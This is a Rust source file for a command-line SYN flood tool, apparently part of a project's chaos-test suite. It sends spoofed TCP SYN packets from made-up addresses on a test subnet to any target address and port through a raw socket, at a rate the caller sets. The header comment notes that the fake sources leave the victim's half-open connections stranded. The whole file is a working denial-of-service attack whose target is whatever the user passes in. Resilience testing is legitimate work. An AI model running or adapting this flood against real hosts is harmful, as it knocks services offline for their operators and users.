//! A SYN flood for the chaos tests: COUNT SYNs to ADDR:PORT from made-up sources on the
//! testbed's subnet (198.51.100.100-249, hosts that do not exist, so the victim's answers go
//! nowhere and its half-open connections stay), through a raw IP socket (socket2), at most RATE a
//! second. Each SYN is written by the wire crate's packet builder. Prints
//! `sent=N seconds=S` at the end.
//!
//! ```text
//! syn-flood ADDR:PORT COUNT RATE
//! ```

use std::{
    net::{Ipv4Addr, SocketAddr, SocketAddrV4},
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context as _, bail};
use socket2::{Domain, Protocol, Socket, Type};
use tcpcopy_wire::{TcpFlags, build::Packet};

/// IPPROTO_RAW: the packets carry their own IP header.
const IPPROTO_RAW: i32 = 255;
/// SYNs sent between two looks at the clock.
const BATCH: u32 = 500;

fn main() -> anyhow::Result<()> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [target, count, rate] = args.as_slice() else {
        bail!("usage: syn-flood ADDR:PORT COUNT RATE");
    };
    let target: SocketAddrV4 = target.parse().context("ADDR:PORT (IPv4)")?;
    let count: u32 = count.parse().context("COUNT")?;
    let rate: u32 = rate.parse().context("RATE")?;
    anyhow::ensure!(rate > 0, "RATE must be above 0");
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))
        .context("a raw socket (CAP_NET_RAW)")?;
    let dst = SocketAddr::V4(target).into();
    let mut rng = fastrand::Rng::with_seed(0x5eed);
    let started = Instant::now();
    let mut sent = 0u32;
    while sent < count {
        for _ in 0..BATCH.min(count - sent) {
            let src = SocketAddrV4::new(
                Ipv4Addr::new(198, 51, 100, rng.u8(100..250)),
                rng.u16(1024..),
            );
            let syn = Packet::between(src.into(), target.into())
                .seq(rng.u32(..))
                .flags(TcpFlags::SYN)
                .mss(1460)
                .ip_id(rng.u16(..))
                .ip();
            socket.send_to(&syn, &dst).context("sending a SYN")?;
            sent += 1;
        }
        // Keep to the rate: the batch is ahead of the schedule by this much.
        let due = Duration::from_secs_f64(f64::from(sent) / f64::from(rate));
        if let Some(ahead) = due.checked_sub(started.elapsed()) {
            thread::sleep(ahead);
        }
    }
    println!("sent={sent} seconds={:.1}", started.elapsed().as_secs_f64());
    Ok(())
}
